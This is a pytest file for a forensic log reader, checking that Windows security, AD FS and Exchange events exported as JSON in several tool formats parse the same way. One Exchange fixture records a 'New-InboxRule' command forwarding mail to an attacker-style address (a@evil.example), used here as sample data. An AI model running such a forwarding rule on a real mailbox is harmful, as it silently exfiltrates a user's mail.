"""Windows events as JSON, in the forms of those who export them."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from evtx_sample import event, log
from logs import checked, read, taken_by

from unsealed.read import evtx
from unsealed.read.windows_json import READER

if TYPE_CHECKING:
    from pathlib import Path

DATA = {"TargetUserName": "Ren", "TargetDomainName": "CSPA", "IpAddress": "203.0.113.7", "TargetLogonId": "0x3e7"}
COMMON = {
    "Channel": "Security",
    "SourceName": "Microsoft-Windows-Security-Auditing",
    "Hostname": "MX1.cspa.go.jp.example",
}
TREE = {
    "Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": {"#text": 4625},
            "TimeCreated": {"#attributes": {"SystemTime": "2023-05-01T01:02:03.456789Z"}}, "EventRecordID": 7,
            "Channel": "Security", "Computer": "MX1.cspa.go.jp.example", "Keywords": "0x8010000000000000",
        },
        "EventData": DATA,
    }
}  # fmt: skip
FORMS: dict[str, dict[str, Any]] = {
    "evtx_dump": TREE,
    "NXLog": {"EventID": 4625, **COMMON, "EventTime": "2023-05-01 10:02:03", "RecordNumber": 7, "Keywords": -9218868437227405312, **DATA},
    "OTRF": {"EventID": 4625, **COMMON, "@timestamp": "2023-05-01T01:02:03.456Z", "RecordNumber": 7, "Keywords": "0x8010000000000000", **DATA},  # noqa: E501
    "Winlogbeat": {
        "@timestamp": "2023-05-01T01:02:03.456Z", "event": {"code": "4625"},
        "winlog": {"event_id": "4625", "channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing", "record_id": 7,
                   "computer_name": "MX1.cspa.go.jp.example", "keywords": ["Audit Failure"], "event_data": DATA},
    },
    "Get-WinEvent": {
        "Id": 4625, "LogName": "Security", "ProviderName": "Microsoft-Windows-Security-Auditing", "RecordId": 7,
        "MachineName": "MX1.cspa.go.jp.example", "TimeCreated": "/Date(1682902923456)/", "KeywordsDisplayNames": ["Audit Failure"],
        "Message": "An account failed to log on.\r\n\r\nSubject:\r\n\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n\r\nAccount For Which Logon Failed:\r\n\tAccount Name:\t\tRen\r\n\tAccount Domain:\t\tCSPA\r\n\r\nNetwork Information:\r\n\tSource Network Address:\t203.0.113.7\r\n",  # noqa: E501
        "Properties": [{"Value": "S-1-0-0"}],
    },
}  # fmt: skip


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("shape", ["lines", "array", "printed", "utf-16"])
def test_every_form_tells_the_same(tmp_path: Path, form: str, shape: str) -> None:
    text = {
        "lines": json.dumps(FORMS[form])
        + "\n"
        + json.dumps(TREE | {"n": 1}).replace("4625", "4624").replace(": 7", ": 8")
        + "\n",
        "array": json.dumps([FORMS[form]]),
        "printed": json.dumps([FORMS[form]], indent=2),
        "utf-16": json.dumps(FORMS[form]),
    }[shape]
    path = tmp_path / "x.json"
    path.write_bytes(text.encode("utf-16" if shape == "utf-16" else "utf-8"))
    events, skipped = checked(READER, path, *([100] if shape == "lines" else []), timezone="Asia/Tokyo")
    assert not skipped
    found = events[0]
    assert found["time"] // 1_000_000 == 1682902923
    assert (found["source"], found["operation"], found["outcome"]) == ("windows_security", "4625", "failure")
    assert (found["user"], found["client_ip"]) == ("cspa\\ren", "203.0.113.7")
    assert found["record_id"] == "mx1.cspa.go.jp.example/security/7"
    assert found["time_basis"] == ("zone" if form == "NXLog" else None)


def test_an_event_is_the_same_in_every_export_of_its_log(tmp_path: Path) -> None:
    path = tmp_path / "x.evtx"
    path.write_bytes(log([(7, event(7, 4625, **DATA))]))
    ids = {found["event_id"] for found in read(evtx.READER, path)[0]}
    for form in FORMS.values():
        path = tmp_path / "x.json"
        path.write_text(json.dumps(form))
        ids |= {found["event_id"] for found in read(READER, path, timezone="Asia/Tokyo")[0]}
    assert len(ids) == 1


def test_exchange_s_administrators(tmp_path: Path) -> None:
    value = json.loads(json.dumps(TREE).replace('"Security"', '"MSExchange Management"'))
    value["Event"]["EventData"] = {
        "Data": {"#text": ["New-InboxRule", "-Name x -ForwardTo a@evil.example", "cspa.example/Users/Admin", "S-1"]}
    }
    path = tmp_path / "x.json"
    path.write_text(json.dumps(value))
    (found,), _ = checked(READER, path)
    assert (found["source"], found["operation"]) == ("windows_msexchange_management", "New-InboxRule")
    assert (found["user"], found["target"]) == ("cspa.example/users/admin", "-Name x -ForwardTo a@evil.example")


def test_a_sign_in_through_a_federation_server(tmp_path: Path) -> None:
    audit = "<AuditBase><UserId>Ren@cspa.go.jp.example</UserId><IpAddress>203.0.113.7,10.0.0.1</IpAddress></AuditBase>"
    value = {
        "EventID": 1203,
        **COMMON,
        "SourceName": "AD FS Auditing",
        "EventTime": "2023-05-01 10:02:03",
        "EventType": "AUDIT_FAILURE",
    }
    path = tmp_path / "x.json"
    path.write_text(json.dumps(value | {"Message": audit}))
    (found,), _ = checked(READER, path)
    assert (found["user"], found["client_ip"], found["outcome"]) == ("ren@cspa.go.jp.example", "203.0.113.7", "failure")


def test_what_is_no_event_is_named_and_other_json_left_to_others(tmp_path: Path) -> None:
    path = tmp_path / "x.json"
    path.write_text(json.dumps(TREE) + "\n" + '{"EventID": 1, "Channel": "x"}\n{"a": 1}\n{"EventID": 1, "Chan')
    events, skipped = checked(READER, path)
    assert len(events) == 1
    assert [row["reason"] for row in skipped] == ["not_a_record", "not_a_record", "truncated"]
    path.write_text('{"EventID": 1, "x": 2}\n{"EventID": 3}\n')
    assert taken_by(path) != READER.name
